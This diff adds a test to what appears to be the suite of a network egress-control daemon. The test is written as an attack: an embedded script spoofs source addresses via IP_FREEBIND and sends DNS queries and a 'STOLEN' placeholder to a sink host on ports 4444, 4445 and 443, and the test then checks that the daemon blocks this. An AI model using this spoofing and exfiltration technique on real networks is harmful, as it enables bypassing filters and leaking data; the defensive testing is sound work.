@@ -781,3 +781,60 @@ def test_path_that_a_peer_announces(internet: Internet, daemon: Daemon, box: Nam
         listening.stop()
         internet.namespace.check("ip", "mptcp", "endpoint", "flush")
         internet.namespace.check("ip", "mptcp", "limits", "set", "subflows", "2", "add_addr_accepted", "0")
+
+
+# Answers to somebody else
+
+IN_ANOTHERS_NAME = f"""\
+import socket, sys
+QUERY = bytes.fromhex("123401000001000000000000") + b"".join(bytes([len(l)]) + l.encode() for l in "{plan.ALLOWED}".split("."))
+QUERY += bytes(1) + bytes.fromhex("00010001")
+PLACES = {{
+    socket.AF_INET: ("{plan.DENIED4}", "{plan.DNS4}", "{plan.SINK4}", "{plan.SHARED4}", 0, 15),  # IP_FREEBIND
+    socket.AF_INET6: ("{plan.DENIED6}", "{plan.DNS6}", "{plan.SINK6}", "{plan.SHARED6}", 41, 78),  # IPV6_FREEBIND
+}}
+for family, (own, resolver, sink, web, level, option) in PLACES.items():
+    def speaking(kind):
+        s = socket.socket(family, kind)
+        s.setsockopt(level, option, 1)
+        s.settimeout(0.5)
+        s.bind((own, 5353 if kind == socket.SOCK_DGRAM else 0))
+        return s
+    for kind, place, data in (
+        (socket.SOCK_DGRAM, (resolver, 53), QUERY),
+        (socket.SOCK_DGRAM, (sink, 4444), b"{STOLEN}"),
+        (socket.SOCK_DGRAM, (sink, 4445), b"{STOLEN}"),
+        (socket.SOCK_STREAM, (resolver, 53), QUERY),
+        (socket.SOCK_STREAM, (web, 443), b"{STOLEN}"),
+    ):
+        with speaking(kind) as s:
+            try:
+                s.connect(place)
+                s.send(data)
+            except OSError as error: print(place, error)
+print("tried everything")
+"""
+
+
+@pytest.mark.attack(
+    "T12 B1",
+    "speaks with what answers it (resolver, relay, proxy) in the name of somebody outside, so that the answers go there",
+    stopped_by="kernel",
+)
+def test_answers_to_somebody_else(internet: Internet, daemon: Daemon, box: Namespace) -> None:
+    """Nobody needs a privilege to bind a socket to an address that is not the machine's (IP_FREEBIND); over IPv4 it sends nothing
+    without."""
+    rule = {"target": plan.SINK, "protocol": "any", "ports": [4444]}
+    resolve = f"getent ahosts {plan.SINK}; getent ahosts {plan.ALLOWED}; "
+    command = box.command("/bin/sh", "-c", resolve + 'exec "$@"', "sh", *BARE, PYTHON, "-c", IN_ANOTHERS_NAME)
+
+    def heard() -> list[str]:
+        with internet.capture(f"host {plan.DENIED4} or host {plan.DENIED6}", unenforced=True) as outside:
+            done = subprocess.run(command, capture_output=True, text=True, timeout=60)
+        assert "tried everything" in done.stdout, done
+        return outside.lines
+
+    without = heard()
+    assert any(plan.DENIED6 in line for line in without), without
+    daemon.create(allowing(plan.ALLOWED, rule), attachment=attachment(box))
+    assert heard() == []
